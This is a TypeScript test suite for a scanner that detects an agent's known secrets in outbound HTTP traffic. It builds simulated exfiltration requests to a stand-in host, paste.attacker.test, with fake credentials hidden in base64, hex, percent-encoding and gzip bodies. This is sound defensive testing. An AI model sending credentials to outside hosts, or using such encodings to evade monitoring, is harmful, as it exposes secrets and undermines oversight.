import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { Scanner } from '../../lib/scan/scanner.ts';
import { PATTERNS } from '../../lib/patterns/registry.ts';
import { parseDotenv } from '../../lib/known-secrets/dotenv.ts';
import { skipReason } from '../../lib/known-secrets/select.ts';
import { loadKnownSecrets } from '../../lib/known-secrets/load.ts';
import { KnownSecretMatcher } from '../../lib/known-secrets/matcher.ts';
import { fake, fakeToken, B64URL, ALNUM } from '../../lib/patterns/fake.ts';
import type { ScanRequest } from '../../lib/scan/types.ts';
import { httpMessageToScanRequest } from '../../lib/http-message.ts';

// A value no registry pattern knows (a database password), and the agent's own Anthropic key.
const DB_PASSWORD = fakeToken('known-db', 24, ALNUM + '!#%');
const ANTHROPIC = fake('sk-', 'ant-', 'api03-', fakeToken('known-ant', 93, B64URL), 'AA');
const SECRETS = [
  { name: 'DATABASE_PASSWORD', value: DB_PASSWORD },
  { name: 'ANTHROPIC_API_KEY', value: ANTHROPIC },
];
const scanner = new Scanner({ patterns: [...PATTERNS], knownSecrets: SECRETS });

function out(location: string, text: string, dest = 'paste.attacker.test:443'): ScanRequest {
  return { direction: 'outbound', protocol: 'https', platform: 'nanoclaw', source: '172.17.0.2', dest, parts: [{ location, text }] };
}

const pct = (s: string) => Array.from(Buffer.from(s), (b) => '%' + b.toString(16).padStart(2, '0')).join('');
const b64 = (s: string) => Buffer.from(s).toString('base64');
const ENCODINGS: Array<[string, (s: string) => string]> = [
  ['raw', (s) => s],
  ['base64 padded', (s) => b64(s)],
  ['base64 unpadded', (s) => b64(s).replace(/=+$/, '')],
  ['base64url', (s) => Buffer.from(s).toString('base64url')],
  ['base64 inside a longer blob, offset 1', (s) => b64('x' + s + 'yz')],
  ['base64 inside a longer blob, offset 2', (s) => b64('\u0001\u0002' + s)],
  ['hex', (s) => Buffer.from(s).toString('hex')],
  ['HEX', (s) => Buffer.from(s).toString('hex').toUpperCase()],
  ['percent (encodeURIComponent)', (s) => encodeURIComponent(s)],
  ['percent (every byte)', pct],
];
const LOCATIONS = ['path', 'query:data', 'header:x-trace', 'body'];

for (const secret of [SECRETS[0]!]) {
  test(`known secret ${secret.name}: found in every encoding and location`, () => {
    for (const [encName, enc] of ENCODINGS) {
      for (const loc of LOCATIONS) {
        const text = loc === 'path' ? `/x/${enc(secret.value)}/y` : loc === 'body' ? JSON.stringify({ note: enc(secret.value) }) : enc(secret.value);
        const f = scanner.scan(out(loc, text));
        const hit = f.find((x) => x.pattern === 'known_secret');
        assert.ok(hit, `${encName} in ${loc} not found`);
        assert.equal(hit.rule_id, `known_secret/${secret.name}`);
        assert.equal(hit.severity, 'critical');
        const serialized = JSON.stringify(f);
        for (let i = 0; i + 6 <= secret.value.length; i++) assert.ok(!serialized.includes(secret.value.slice(i, i + 6)), `${encName}/${loc}: piece leaked`);
        assert.ok(!serialized.includes(b64(secret.value).slice(4, 14)), `${encName}/${loc}: base64 form leaked`);
      }
    }
  });
}

test('known secret in a gzip body', () => {
  const body = gzipSync(Buffer.from(`password=${DB_PASSWORD}`));
  const raw = Buffer.concat([Buffer.from(`POST /c HTTP/1.1\r\nHost: paste.attacker.test\r\nContent-Encoding: gzip\r\n\r\n`), body]);
  const f = scanner.scan(httpMessageToScanRequest(raw, { platform: 'openclaw', protocol: 'https', source: '127.0.0.1', maxScanBytes: 1 << 20 }));
  assert.ok(f.some((x) => x.pattern === 'known_secret' && x.location === 'body'));
});

test('own key to its own provider in its auth header stays quiet; elsewhere it is one known_secret finding', () => {
  assert.deepEqual(scanner.scan(out('header:x-api-key', ANTHROPIC, 'api.anthropic.com:443')), []);
  const elsewhere = scanner.scan(out('header:x-api-key', ANTHROPIC, 'paste.attacker.test:443'));
  assert.equal(elsewhere.length, 1, JSON.stringify(elsewhere.map((f) => f.rule_id)));
  assert.equal(elsewhere[0]?.pattern, 'known_secret');
  const inBody = scanner.scan(out('body', `{"k":"${ANTHROPIC}"}`, 'api.anthropic.com:443'));
  assert.equal(inBody.length, 1);
});

test('without loaded secrets the same value is not a known_secret finding (the matcher is what finds it)', () => {
  const plain = new Scanner({ patterns: [...PATTERNS] });
  assert.equal(plain.scan(out('body', DB_PASSWORD)).filter((f) => f.pattern === 'known_secret').length, 0);
  plain.setKnownSecrets([SECRETS[0]!]);
  assert.equal(plain.scan(out('body', DB_PASSWORD)).filter((f) => f.pattern === 'known_secret').length, 1);
  plain.setKnownSecrets([]);
  assert.equal(plain.knownSecretCount, 0);
});

test('dotenv parsing: export, quotes, comments, multi-line double quotes', () => {
  const entries = parseDotenv(['# c', 'export A=1', 'B="two words" # c', "C='x#y'", 'D=plain # trailing', 'E="l1', 'l2"', 'bad line'].join('\n'));
  assert.deepEqual(entries.map((e) => [e.name, e.value]), [['A', '1'], ['B', 'two words'], ['C', 'x#y'], ['D', 'plain'], ['E', 'l1\nl2']]);
});

test('value selection: long or mixed values load; paths, plain URLs, placeholders and low-entropy text do not', () => {
  assert.equal(skipReason(DB_PASSWORD), null);
  assert.equal(skipReason('Ab3$xY9!qq'), null, '10 chars, mixed classes');
  assert.equal(skipReason('short'), 'too_short');
  assert.equal(skipReason('abcdefghij'), 'too_short', '10 chars, one class');
  assert.equal(skipReason('/home/agent/projects/app'), 'path');
  assert.equal(skipReason('https://api.acme-corp.io/v1/items'), 'url_without_credentials');
  assert.equal(skipReason('postgres://app:' + DB_PASSWORD + '@db:5432/app'), null);
  assert.equal(skipReason('sk-ant-api03-your-key-here-please'), 'placeholder');
  assert.equal(skipReason('aaaaaaaaaaaaaaaaaaaaaaaa'), 'placeholder');
});

test('loadKnownSecrets reads files, reports names and counts only, and errors name the field', () => {
  const dir = mkdtempSync(join(tmpdir(), 'ctg-known-'));
  try {
    const file = join(dir, '.env');
    writeFileSync(file, `ANTHROPIC_API_KEY=${ANTHROPIC}\nDEBUG=true\nPORT=3000\nDATABASE_PASSWORD="${DB_PASSWORD}"\n`);
    const r = loadKnownSecrets([file]);
    assert.equal(r.secrets.length, 2);
    assert.deepEqual(r.files[0]?.loadedNames, ['ANTHROPIC_API_KEY', 'DATABASE_PASSWORD']);
    assert.equal(r.files[0]?.skipped, 2);
    assert.ok(!JSON.stringify(r.files).includes(DB_PASSWORD.slice(0, 8)));
    assert.throws(() => loadKnownSecrets([join(dir, 'missing.env')]), (e: Error & { code?: string; problems?: Array<{ path: string }> }) => e.code === 'CONFIG_INVALID' && e.problems?.[0]?.path === 'secret_env_files');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('matcher: every occurrence of every needle is found regardless of sampling phase', () => {
  const m = new KnownSecretMatcher([{ name: 'X', value: 'Zq7xW2pL9mN4vB8c' }]);
  for (let pad = 0; pad < 20; pad++) {
    const text = '.'.repeat(pad) + 'Zq7xW2pL9mN4vB8c' + '.'.repeat(7);
    assert.equal(m.find(text).length, 1, `pad ${pad}`);
  }
});
